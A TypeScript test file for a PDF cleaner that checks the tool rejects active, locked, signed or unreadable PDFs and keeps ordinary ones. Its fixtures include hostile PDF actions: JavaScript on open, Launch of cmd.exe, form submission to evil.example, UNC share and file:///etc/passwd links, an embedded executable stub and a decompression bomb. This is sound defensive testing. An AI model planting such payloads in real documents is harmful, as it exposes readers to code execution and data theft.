import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { describe, expect, it } from 'vitest'
import { aDocument, aPdf, aScriptedPdf, PACKINGS, writePdf } from '../../../tests/pdf-files.ts'
import { cleanPdf } from './cleaning.ts'
import { isDict, isName, readWrittenPdf } from './objects.ts'
import { createPdfReader } from './pdfjs.server.ts'

/** Most cases run in this thread, since the library takes half a second to load into a new one. */
const reader = { clean: (bytes: Uint8Array) => cleanPdf(Uint8Array.from(bytes)) }
const SCRIPT = '<</S /JavaScript /JS (app.alert\\(1\\))>>'

/** A page with a link or another annotation. @param more further objects */
const annotated = (annotation: string, more: Record<number, string> = {}) =>
  writePdf({ objects: aDocument({ page: '/Annots [9 0 R]', objects: { 9: annotation, ...more } }) })
const linked = (action: string, more: Record<number, string> = {}) =>
  annotated(`<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action}>>`, more)

/** The keys and names of a written document, outside its streams. */
function namesOf(bytes: Uint8Array): Set<string> {
  const names = new Set<string>()
  const { objects, trailer } = readWrittenPdf(bytes)
  const waiting = [trailer, ...objects.values()]
  for (let value = waiting.pop(); value !== undefined; value = waiting.pop()) {
    if (isName(value)) names.add(value.name)
    if (Array.isArray(value)) waiting.push(...value)
    if (isDict(value))
      for (const [key, each] of value.dict) {
        names.add(key)
        waiting.push(each)
      }
  }
  return names
}

async function written(bytes: Uint8Array) {
  const cleaned = await reader.clean(bytes)
  if (!cleaned.ok) throw new Error(cleaned.reason)
  return cleaned.bytes
}

const draw = (on: (document: PDFKit.PDFDocument) => void, options: object = {}) =>
  new Promise<Buffer>((resolve) => {
    const document = new PDFDocument({ info: { Title: 'Menu' }, ...options })
    const parts: Buffer[] = []
    document.on('data', (part: Buffer) => parts.push(part))
    document.on('end', () => resolve(Buffer.concat(parts)))
    on(document)
    document.end()
  })

describe('a PDF with a program', () => {
  it.each(Object.entries(PACKINGS))('fails the check when its script is packed by %s', async (_, packing) => {
    const { 1: catalog = '', ...objects } = aDocument({ catalog: '/OpenAction 9 0 R' })
    const packed = { 1: String(catalog), 9: SCRIPT }
    const scripted = writePdf({ objects, packed, packing })
    expect(await reader.clean(scripted)).toEqual({ ok: false, reason: 'active' })
    // Packed in the same way, an honest document is taken.
    expect(
      namesOf(await written(writePdf({ objects, packed: { ...packed, 9: '[3 0 R /Fit]' }, packing }))),
    ).toContain('Catalog')
  })

  it.each([
    ['a script when it opens', { catalog: `/OpenAction ${SCRIPT}` }],
    ['a script among its names', { catalog: `/Names <</JavaScript <</Names [(a) ${SCRIPT}]>>>>` }],
    ['a script when it is printed', { catalog: `/AA <</WP ${SCRIPT}>>` }],
    [
      'an attached file',
      {
        catalog: '/Names <</EmbeddedFiles <</Names [(a) 9 0 R]>>>>',
        objects: {
          9: '<</Type /Filespec /F (a.exe) /EF <</F 10 0 R>>>>',
          10: { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ') },
        },
      },
    ],
    [
      'an XFA form',
      {
        catalog: '/AcroForm <</Fields [] /XFA 9 0 R>>',
        objects: { 9: { dict: '', data: Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>') } },
      },
    ],
    [
      'a hidden layer',
      {
        catalog: '/OCProperties <</OCGs [9 0 R] /D <</OFF [9 0 R]>>>>',
        objects: { 9: '<</Type /OCG /Name (Draft)>>' },
      },
    ],
    ['a portfolio', { catalog: '/Collection <</Type /Collection>>' }],
    ['a script when a page opens', { page: `/AA <</O ${SCRIPT}>>` }],
    [
      'a page whose content is in another file',
      {
        objects: { 4: { dict: '/F (\\\\\\\\evil\\\\share)', data: Buffer.from('') } },
      },
    ],
  ])('fails the check with %s', async (_, more) => {
    expect(await reader.clean(writePdf({ objects: aDocument(more) }))).toEqual({
      ok: false,
      reason: 'active',
    })
  })

  it.each<[string, string, Record<number, string>?]>([
    ['a script', SCRIPT],
    ['a script with escapes in its name', '<</S /J#61vaScrip#74 /J#53 (x)>>'],
    [
      'a script whose name is an object of its own',
      '<</S 10 0 R /J#53 11 0 R>>',
      { 10: '/JavaScript', 11: '(x)' },
    ],
    ['an action whose name is an object of its own', '<</S 10 0 R /F (a.exe)>>', { 10: '/Launch' }],
    ['an action in a chain', '<</S /GoTo /D [3 0 R /Fit] /Next [<</S /Launch /F (a.exe)>>]>>'],
    ['a program to start', '<</S /Launch /Win <</F (cmd.exe)>>>>'],
    ['a form to send', '<</S /SubmitForm /F (https://evil.example/)>>'],
    ['data to import', '<</S /ImportData /F (a.fdf)>>'],
    ['another file to open', '<</S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]>>'],
    ['an address that is a script', '<</S /URI /URI (javascript:app.alert\\(1\\))>>'],
    ['an address that is a script behind spaces', '<</S /URI /URI ( java\\nscript:app.alert\\(1\\))>>'],
    ['an address of a file', '<</S /URI /URI (file:///etc/passwd)>>'],
    ['an address of a share', '<</S /URI /URI (\\\\\\\\evil\\\\share)>>'],
    ['media', '<</S /Rendition /OP 0>>'],
  ])('fails the check with %s behind a link', async (_, action, more: Record<number, string> = {}) => {
    expect(await reader.clean(linked(action, more))).toEqual({ ok: false, reason: 'active' })
  })

  it.each([
    ['media', '<</Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent <<>>>>'],
    ['an attached file', '<</Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS <</F (a.exe)>>>>'],
    [
      'a field that runs a script',
      `<</Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA <</K ${SCRIPT}>>>>`,
    ],
    [
      'a button that sends the form',
      '<</Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /A <</S /SubmitForm /F (https://evil.example/)>>>>',
    ],
  ])('fails the check with %s on a page', async (_, annotation) => {
    expect(await reader.clean(annotated(annotation))).toEqual({ ok: false, reason: 'active' })
  })

  it('fails the check when a later version of the document inside it adds the script', async () => {
    const before = Buffer.from(aPdf())
    const start = /startxref\n(\d+)\n/.exec(before.toString('latin1'))?.[1]
    const at = before.length
    const object = `1 0 obj\n<</Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT}>>\nendobj\n`
    const table = `xref\n1 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<</Size 7 /Root 1 0 R /Prev ${start}>>\n`
    const end = `startxref\n${at + object.length}\n%%EOF\n`
    const updated = Buffer.concat([before, Buffer.from(`${object}${table}${end}`)])
    expect(await reader.clean(updated)).toEqual({ ok: false, reason: 'active' })
  })

  it('loses what its pages don’t need, such as an action that our reader doesn’t report or an unused object', async () => {
    const more = {
      catalog: '/OpenAction <</S /Launch /F (a.exe)>> /URI <</Base (javascript:)>>',
      objects: { 9: SCRIPT, 10: { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ') } },
    }
    const names = namesOf(await written(writePdf({ objects: aDocument(more) })))
    for (const name of ['Launch', 'OpenAction', 'JavaScript', 'JS', 'EmbeddedFile', 'URI'])
      expect(names).not.toContain(name)
  })
})

describe('a PDF that can’t be examined', () => {
  it('fails as locked, with a password or without', async () => {
    for (const userPassword of ['secret', ''])
      expect(
        await reader.clean(
          await draw((document) => document.text('A'), { userPassword, ownerPassword: 'b' }),
        ),
      ).toEqual({ ok: false, reason: 'locked' })
  })

  it('fails as signed', async () => {
    const signed = writePdf({
      objects: aDocument({
        catalog: '/AcroForm <</Fields [9 0 R] /SigFlags 3>>',
        page: '/Annots [9 0 R]',
        objects: {
          9: '<</Type /Annot /Subtype /Widget /FT /Sig /T (a) /Rect [0 0 9 9] /V 10 0 R>>',
          10: '<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 9 9] /Contents <30>>>',
        },
      }),
    })
    expect(await reader.clean(signed)).toEqual({ ok: false, reason: 'signed' })
  })

  it.each([
    ['no objects', Buffer.from('%PDF-1.7\n1 0 obj')],
    ['no pages', writePdf({ objects: { 1: '<</Type /Catalog>>' } })],
    ['noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000, 0x80), Buffer.from('%%EOF')])],
    [
      'pages that contain each other',
      writePdf({ objects: { ...aDocument(), 2: '<</Type /Pages /Kids [2 0 R] /Count 9>>' } }),
    ],
    ['lists in 100,000 lists', writePdf({ objects: aDocument({ page: `/X ${'['.repeat(100_000)}` }) })],
  ])('fails with %s', async (_, bytes) => {
    expect(await reader.clean(bytes)).toEqual({ ok: false, reason: 'unreadable' })
  })

  it('fails once it unpacks to more than its thread may hold', async () => {
    const { 1: catalog = '', ...objects } = aDocument()
    const bomb = writePdf({
      objects,
      packed: { 1: String(catalog) },
      packing: (plain) => ({
        dict: '/Filter [/FlateDecode /FlateDecode]',
        data: deflateSync(deflateSync(Buffer.concat([plain, Buffer.alloc(120_000_000, ' ')]))),
      }),
    })
    expect(bomb.byteLength).toBeLessThan(100_000)
    const bounded = createPdfReader({ ms: 60_000, bufferMb: 30 })
    expect(await bounded.clean(bomb)).toEqual({ ok: false, reason: 'unreadable' })
  })

  it('fails once it takes longer than its thread may run', async () => {
    expect(await createPdfReader({ ms: 1 }).clean(aPdf())).toEqual({ ok: false, reason: 'unreadable' })
  })

  // Our own scanner inflated the rest of the file for each of these.
  it('takes one pass to write with the word stream in it 40,000 times', async () => {
    const words = writePdf({
      objects: aDocument({
        objects: { 4: { dict: '', data: Buffer.from(' /First stream'.repeat(40_000)) } },
      }),
    })
    // The library leaves a stream as it is where it can't compress it.
    expect((await written(words)).byteLength).toBeLessThan(words.byteLength + 1_000)
  })
})

describe('an honest PDF', () => {
  it('keeps its pages, links, outline and title', async () => {
    const drawn = await draw((document) => {
      document.text('Menu', { link: 'https://example.com/menu' })
      document.text('Write to us', { link: 'mailto:kim@example.com' })
      document.outline.addItem('Starters')
      document.addPage().text('Mains')
    })
    const bytes = await written(drawn)
    expect(Buffer.from(bytes.subarray(0, 5)).toString()).toBe('%PDF-')
    const { objects } = readWrittenPdf(bytes)
    const dicts = [...objects.values()].filter(isDict)
    const ofType = (type: string) =>
      dicts.filter(({ dict }) => JSON.stringify(dict.get('Type')) === JSON.stringify({ name: type }))
    expect(ofType('Page')).toHaveLength(2)
    expect(ofType('Annot')).toHaveLength(2)
    expect(ofType('Outlines')).toHaveLength(1)
    expect(dicts.map(({ dict }) => dict.get('URI'))).toContainEqual({ text: 'https://example.com/menu' })
    expect(dicts.map(({ dict }) => dict.get('Title'))).toContainEqual({ text: 'Menu' })
  })

  it('keeps a form without scripts', async () => {
    const drawn = await draw((document) => {
      document.font('Helvetica').initForm()
      document.formText('name', 10, 10, 100, 20)
      document.formCheckbox('vegan', 10, 40, 20, 20)
    })
    expect(namesOf(await written(drawn))).toContain('AcroForm')
  })

  it.each([
    ['a web address without a scheme', '<</S /URI /URI (www.example.com:8080/a)>>'],
    ['a phone number', '<</S /URI /URI (tel:+61\\(2\\)5550)>>'],
    ['the next page', '<</S /Named /N /NextPage>>'],
  ])('may have a link to %s', async (_, action) => {
    expect(await reader.clean(linked(action))).toMatchObject({ ok: true })
  })

  it('may have layers that are shown', async () => {
    const more = {
      catalog: '/OCProperties <</OCGs [9 0 R] /D <</ON [9 0 R]>>>>',
      objects: { 9: '<</Type /OCG /Name (Tables)>>' },
    }
    expect(await reader.clean(writePdf({ objects: aDocument(more) }))).toMatchObject({ ok: true })
  })

  it('stays the same document when it is written again', async () => {
    const once = await written(aPdf())
    const pages = (bytes: Uint8Array) => {
      const { objects } = readWrittenPdf(bytes)
      // The second has the time of its writing.
      return [...objects.values()].filter((value) => !isDict(value) || !value.dict.has('Producer'))
    }
    expect(pages(await written(once))).toEqual(pages(once))
  })

  it('passes the thread that the product uses, and one with a script doesn’t', async () => {
    const product = createPdfReader()
    const cleaned = await product.clean(aPdf())
    expect(cleaned.ok && namesOf(cleaned.bytes)).toContain('Catalog')
    expect(await product.clean(aScriptedPdf())).toEqual({ ok: false, reason: 'active' })
    // The thread reads on, and a second one joins it.
    expect(await Promise.all([product.clean(aPdf()), product.clean(aPdf())])).toMatchObject([
      { ok: true },
      { ok: true },
    ])
  })
})
